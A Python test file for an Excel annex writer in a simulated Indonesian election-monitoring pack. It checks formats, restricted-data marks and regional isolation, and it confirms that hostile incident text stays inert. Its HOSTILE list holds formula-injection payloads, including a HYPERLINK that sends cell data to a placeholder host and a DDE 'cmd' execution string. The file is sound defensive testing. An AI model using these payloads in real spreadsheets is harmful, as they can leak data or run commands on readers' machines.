"""The Excel annex, read back with openpyxl: the pack's figures as numbers with Indonesian formats,
hostile field text kept as text, the marks, and nothing of another kab/kota in a kab/kota annex.

The processed data is test_packs' tiny scenario, with incidents whose text opens like a formula.
"""

from __future__ import annotations

import datetime as dt
import zipfile
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from test_packs import build_processed

from analysis import catalog
from analysis.analyse.stage import run_analyse
from analysis.packs import sections
from analysis.packs.annex import SHEETS, AnnexError, check_inside, needs_quote, write_annex
from analysis.packs.html import figures
from analysis.packs.inputs import prepare_pack_inputs
from analysis.packs.load import load_pack
from analysis.schemas import INCIDENTS

HOSTILE = (
    '=HYPERLINK("http://example.invalid/?"&A1,"klik")',
    "+62 812 3456 7890",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=cmd|' /C calc'!A0",
)


@pytest.fixture(scope="module")
def processed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """test_packs' scenario (analysed) plus six incidents in Kota Palembang whose text opens like a formula."""
    root = build_processed(tmp_path_factory.mktemp("annex") / "demo-16")
    inc = catalog.read(INCIDENTS.name, root)
    base = inc.filter(pl.col("id_insiden") == "I1").row(0, named=True)
    extra = [
        {**base, "id_insiden": f"H{i}", "deskripsi": text, "instansi": text}
        for i, text in enumerate(HOSTILE)
    ]
    catalog.write(pl.concat([inc, pl.DataFrame(extra, schema=inc.schema)]), INCIDENTS.name, root)
    run_analyse(root)  # kerawanan and follow-up, as the daily brief makes them
    prepare_pack_inputs(root)
    return root


@pytest.fixture(scope="module")
def annexes(processed: Path, tmp_path_factory) -> dict[str, Path]:
    out = tmp_path_factory.mktemp("xlsx")
    paths = {}
    for tingkat, kode in (("provinsi", "16"), ("kabkota", "16.71"), ("kabkota", "16.72")):
        pack = load_pack(processed, "2024-11-28", tingkat, kode)
        paths[kode] = out / f"{kode}.xlsx"
        write_annex(pack, paths[kode])
    return paths


def _rows(path: Path, sheet: str) -> list[dict[str, object]]:
    ws = openpyxl.load_workbook(path)[sheet]
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    head = [str(h).split(" (")[0] for h in rows[0]]
    return [dict(zip(head, r, strict=True)) for r in rows[1:]]


def test_sheets_marks_and_properties(annexes):
    wb = openpyxl.load_workbook(annexes["16"])
    assert wb.sheetnames == ["Keterangan", *(s.name for s in SHEETS)]
    for ws in wb.worksheets:
        assert str(ws["A1"].value).startswith("TERBATAS · DATA SIMULASI")
        assert "TERBATAS" in ws.oddHeader.left.text and "DATA SIMULASI" in ws.oddHeader.left.text
    for ws in wb.worksheets[1:]:
        assert ws.freeze_panes == "A3"
        assert ws.auto_filter.ref.startswith("A2:")
        assert all(ws.column_dimensions[c].width >= 6 for c in ws.column_dimensions)
    assert wb.properties.subject == "TERBATAS · DATA SIMULASI"
    assert wb.properties.category == "TERBATAS"
    assert wb.properties.created == dt.datetime(2024, 11, 28, 7, 0)  # the data time: reproducible


def test_annex_holds_the_packs_figures_as_numbers(annexes, processed):
    pack = load_pack(processed, "2024-11-28", "provinsi", "16")
    html = sections.render_all(pack)
    votes = {
        (r["Kode"], r["Pemilihan"], r["No. urut"]): r
        for r in _rows(annexes["16"], "Suara per paslon")
    }
    gub = pack.nama_kontestasi["pkwkp-16"]
    for nomor in (1, 2):
        shown = figures(html, "suara_internal", kontestasi="pkwkp-16", paslon=str(nomor))
        assert votes[("16", gub, nomor)]["Suara internal"] == int(shown[0])
    cov = {(r["Kode"], r["Pemilihan"]): r for r in _rows(annexes["16"], "Cakupan per wilayah")}
    shown = figures(html, "cakupan_internal", wilayah="16", kontestasi="pkwkp-16")
    assert cov[("16", gub)]["Cakupan internal"] == pytest.approx(float(shown[0]))
    selisih = {r["TPS"]: r for r in _rows(annexes["16"], "Selisih TPS")}
    assert selisih["1671011001002"]["Σ |selisih|"] == int(figures(html, "selisih_tps", tps="1671011001002")[0])  # fmt: skip
    incidents = _rows(annexes["16"], "Insiden")
    assert len(incidents) == int(figures(html, "insiden_total", wilayah="16")[0])
    rawan = {r["Kode"]: r["Skor"] for r in _rows(annexes["16"], "Kerawanan")}
    assert rawan and None not in rawan
    for kode, skor in rawan.items():
        assert skor == pytest.approx(float(figures(html, "skor_kerawanan", wilayah=kode)[0]))
    tl = _rows(annexes["16"], "Tindak lanjut")
    assert tl and tl[0]["ID"] is not None
    assert sum(r["Status"] == "terbuka" for r in tl) == int(
        figures(html, "tindak_lanjut_terbuka")[0]
    )


def test_numbers_are_numbers_with_indonesian_formats(annexes):
    ws = openpyxl.load_workbook(annexes["16"])["Suara per paslon"]
    head = [c.value for c in ws[2]]
    votes = ws.cell(3, head.index("Suara internal") + 1)
    share = ws.cell(3, head.index("Persentase internal") + 1)
    assert votes.data_type == "n" and isinstance(votes.value, (int, float))
    assert votes.number_format == "[$-421]#,##0"  # shown 1.234 with Indonesian separators
    assert share.data_type == "n" and 0 <= share.value <= 1 and share.number_format == "[$-421]0.0%"
    ws = openpyxl.load_workbook(annexes["16"])["Insiden"]
    when = ws.cell(3, 2)
    assert isinstance(when.value, dt.datetime) and "mmm yyyy" in when.number_format
    assert ws.cell(2, 2).value == "Dilaporkan (WIB)"


def test_hostile_field_text_stays_text(annexes):
    wb = openpyxl.load_workbook(annexes["16.71"])
    ws = wb["Insiden"]
    head = [c.value for c in ws[2]]
    cells = [
        ws.cell(r, head.index(col) + 1)
        for r in range(3, ws.max_row + 1)
        for col in ("Uraian", "Instansi")
    ]
    # a CR is stored as Excel's escape _x000D_, which openpyxl leaves as it is
    text = {c: str(c.value).replace("_x000D_", "\r") for c in cells if isinstance(c.value, str)}
    hostile = [c for c, t in text.items() if needs_quote(t)]
    assert {text[c] for c in hostile} >= set(HOSTILE)
    for c in hostile:
        assert c.data_type == "s" and c.quotePrefix  # text, and stays text when edited
    with zipfile.ZipFile(annexes["16.71"]) as z:  # no formula anywhere in the workbook
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)


def test_a_kabkota_annex_holds_nothing_of_another_kabkota(annexes):
    wb = openpyxl.load_workbook(annexes["16.71"])
    seen = []
    for ws in wb.worksheets[1:]:
        for row in ws.iter_rows(min_row=3, values_only=True):
            seen += [str(v) for v in row if v is not None]
    text = "\n".join(seen)
    assert "16.72" not in text and "Pagar Alam" not in text and "1672" not in text
    assert "Palembang" in text or "16.71" in text
    codes = [r["Kode"] for r in _rows(annexes["16.71"], "Cakupan per wilayah")]
    assert codes and all(c == "16.71" or c.startswith("16.71.") for c in codes)


def test_rows_outside_the_unit_stop_the_annex():
    df = pl.DataFrame({"kode_wilayah": ["16.71.01", "16.72.01"]})
    with pytest.raises(AnnexError, match="outside 16.71"):
        check_inside(df, "kode_wilayah", "16.71", "Uji")
    check_inside(df, "kode_wilayah", "16", "Uji")  # both inside the province


def test_needs_quote():
    assert all(needs_quote(h) for h in HOSTILE)
    assert not any(needs_quote(t) for t in ("Surat suara kurang", "62 812", "16.71", ""))


def test_missing_data_gives_sheets_that_say_so(tmp_path):
    root = tmp_path / "kosong"
    root.mkdir()
    prepare_pack_inputs(root)
    pack = load_pack(root, "2024-11-28", "provinsi", "16")
    write_annex(pack, tmp_path / "16.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "16.xlsx")
    assert wb["Insiden"]["A3"].value == "data belum tersedia"


def test_colours_where_the_pack_colours(annexes):
    """Severity, kerawanan class and overdue follow-up carry the pack's colours (conditional
    formats over their columns, so a sorted or filtered sheet keeps them)."""
    wb = openpyxl.load_workbook(annexes["16"])
    for sheet in SHEETS:
        ws = wb[sheet.name]
        head = [c.value for c in ws[2]]
        rules = {
            (str(rng.sqref), rule.formula[0])
            for rng in ws.conditional_formatting
            for rule in rng.rules
        }
        expected = set()
        for key, colours in sheet.colours.items():
            col = next(c for c in sheet.columns if c.key == key)
            letter = openpyxl.utils.get_column_letter(head.index(col.header) + 1)
            expected |= {(f"{letter}3:{letter}{max(3, ws.max_row)}", f'"{v}"') for v in colours}
        assert rules == expected, sheet.name
    assert any(s.colours for s in SHEETS)
